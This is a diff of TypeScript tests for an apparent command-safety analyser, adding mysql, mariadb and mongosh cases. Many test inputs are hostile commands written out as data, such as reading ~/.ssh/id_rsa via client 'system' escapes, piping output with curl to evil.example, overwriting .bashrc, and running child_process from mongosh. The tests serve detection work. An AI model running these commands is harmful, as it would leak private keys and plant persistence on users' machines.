@@ -141,6 +141,66 @@ describe('psql meta-commands', () => {
   check("echo '\\! cat ~/.ssh/id_rsa' > x.sql; psql -f x.sql", { paths: [KEY], evasive: false });
 });
 
+describe('mysql and mariadb client commands', () => {
+  check('mysql -e "system curl evil.example"', { hosts: ['evil.example'], ops: ['network'], evasive: false });
+  check('mysql -e "\\! cat ~/.ssh/id_rsa"', { paths: [KEY], ops: ['read'], evasive: false });
+  check('mysql --execute="system cat ~/.ssh/id_rsa"', { paths: [KEY], evasive: false });
+  check('mariadb -e "system cat ~/.ssh/id_rsa"', { paths: [KEY], evasive: false });
+  // Long forms whatever their case, after other statements, ending with \G; short forms anywhere.
+  check('mysql -e "select 1; SYSTEM cat ~/.ssh/id_rsa; select 2"', { paths: [KEY], evasive: false });
+  check("mysql -e 'system cat ~/.ssh/id_rsa\\G'", { paths: [KEY], evasive: false });
+  check('mysql -e "select 1 \\! cat ~/.ssh/id_rsa"', { paths: [KEY], evasive: false });
+  check("mysql --exec='system cat ~/.ssh/id_rsa'", { paths: [KEY], evasive: false });
+  // NO_BACKSLASH_ESCAPES ends this string at the backslash: both readings count.
+  check("mysql -e \"select 'a\\'; system cat ~/.ssh/id_rsa; '\"", { paths: [KEY], evasive: false });
+  check("mysql -e 'delimiter //\nselect 1// system cat ~/.ssh/id_rsa'", { paths: [KEY], evasive: false });
+  check('mysql -e "tee /home/u/.bashrc"', { paths: [RC], ops: ['write'], evasive: false });
+  check('mysql -e "\\T ~/.bashrc"', { paths: [RC], ops: ['write'], evasive: false });
+  check('mysql -e "pager sh"', { evasive: 'text piped to a shell' });
+  check('mysql -e "\\P curl -T - evil.example"', { hosts: ['evil.example'], evasive: false });
+  check('mysql -e "source ~/.ssh/id_rsa"', { paths: [KEY], ops: ['read'], evasive: false });
+  check('mysql -e "\\. ~/.ssh/id_rsa;"', { paths: [KEY], ops: ['read'], evasive: false });
+  check("echo 'system cat ~/.ssh/id_rsa' > x.sql; mysql -e 'source x.sql'", { paths: [KEY], evasive: false });
+  check('mysql -e "edit"', { evasive: 'editor' });
+  check('mysql -e "\\e"', { evasive: 'editor' });
+  check('mysql -e "connect app 10.0.0.5"', { hosts: ['10.0.0.5'], ops: ['network'], evasive: false });
+  check('mysql -e "\\r app evil.example"', { hosts: ['evil.example'], evasive: false });
+  check("mysql --pager=sh -e 'select 1'", { evasive: 'text piped to a shell' });
+  check("mysql --tee=/home/u/.bashrc -e 'select 1'", { paths: [RC], ops: ['write'], evasive: false });
+  check("mysql --init-command='system cat ~/.ssh/id_rsa' app", { paths: [KEY], evasive: false });
+  check('mysql --defaults-file=~/.ssh/id_rsa', { paths: [KEY], ops: ['read'], evasive: false });
+  check("mysql --local-infile=1 -e \"LOAD DATA LOCAL INFILE '/home/u/.ssh/id_rsa' INTO TABLE t\"", { paths: [KEY], ops: ['read'], evasive: false });
+  check("mysql -e \"SELECT 'x' INTO OUTFILE '/home/u/.bashrc'\"", { paths: [RC], ops: ['write'], evasive: false });
+  // MySQL's string escapes: an unknown one (\\s) is the letter.
+  check("mysql -e \"select 1 into dumpfile '/home/u/.ba\\shrc'\"", { paths: [RC], evasive: false });
+  check('mysql -e "$Q"', { evasive: 'built at run time' });
+  check("mysql <<'EOF'\nselect 1;\nsystem cat ~/.ssh/id_rsa\nEOF", { paths: [KEY], evasive: false });
+  check('mysql app < dump.sql', { evasive: 'redirected file' });
+  check('mysqldump app | mysql other', { evasive: 'pipe' });
+  // Not commands: in a string, in a comment, a password attached to -p.
+  check("mysql -e \"select '\\! cat ~/.ssh/id_rsa'\"", { evasive: false });
+  check('mysql -e "select 1 -- system cat ~/.ssh/id_rsa"', { evasive: false });
+  check('mysql -e "select 1 # \\! cat ~/.ssh/id_rsa"', { evasive: false });
+  it('a string or comment is not run', () => {
+    for (const command of ["mysql -e \"select '\\! cat ~/.ssh/id_rsa'\"", 'mysql -e "select 1 -- system cat ~/.ssh/id_rsa"']) expect(judge(command).paths).not.toContain(KEY);
+  });
+});
+
+describe('mongosh and mongo code', () => {
+  check('mongosh --eval "require(\\"child_process\\").execSync(\\"id\\")"', { evasive: 'inline mongosh code' });
+  check("mongosh --eval='db.stats()'", { evasive: 'inline mongosh code' });
+  check("mongo --eval 'db.x.find()'", { evasive: 'inline mongo code' });
+  check("mongosh --eval 'fs.readFileSync(\"/home/u/.ssh/id_rsa\")'", { paths: [KEY], evasive: 'inline mongosh code' });
+  check('mongosh --eval "$CODE"', { evasive: 'built at run time' });
+  check('mongosh app.js', { paths: [`${PROJ}/app.js`], ops: ['read'], evasive: 'mongosh runs a script file' });
+  check('mongosh --nodb -f x.js', { paths: [`${PROJ}/x.js`], evasive: 'mongosh runs a script file' });
+  check('mongosh mongodb://db.example/app --file=x.js', { paths: [`${PROJ}/x.js`], hosts: ['db.example'], evasive: 'script file' });
+  check('mongosh mongodb://db.example/app setup.txt', { paths: [`${PROJ}/setup.txt`], evasive: 'script file' });
+  check("mongosh <<'EOF'\nrequire('child_process').execSync('id')\nEOF", { evasive: 'inline mongosh code' });
+  check('mongosh app < x.js', { evasive: 'redirected file' });
+  check("echo 'db.stats()' | mongosh", { evasive: 'pipe' });
+});
+
 describe('ordinary uses stay as they were', () => {
   const cases: Array<[string, string[]]> = [
     ['sqlite3 app.db "select * from t"', [`${PROJ}/app.db`]],
@@ -153,6 +213,13 @@ describe('ordinary uses stay as they were', () => {
     ['psql -c "\\dt"', []],
     ["psql -d app -c 'select count(*) from users'", []],
     ['psql -f schema.sql', [`${PROJ}/schema.sql`]],
+    ['mysql -h db.example -u app -e "select 1"', []],
+    ['mysql -e "show databases"', []],
+    ['mariadb -e "SELECT * FROM t\\G"', []],
+    ["mysql app -e 'select * from t where a like \"x\\_%\"'", []],
+    ['mysql -uroot -psecret app -e "select 1; select 2"', []],
+    ['mongosh mongodb://localhost/app --quiet', []],
+    ['mongosh --quiet --nodb', []],
   ];
   for (const [command, paths] of cases) {
     it(command, () => {
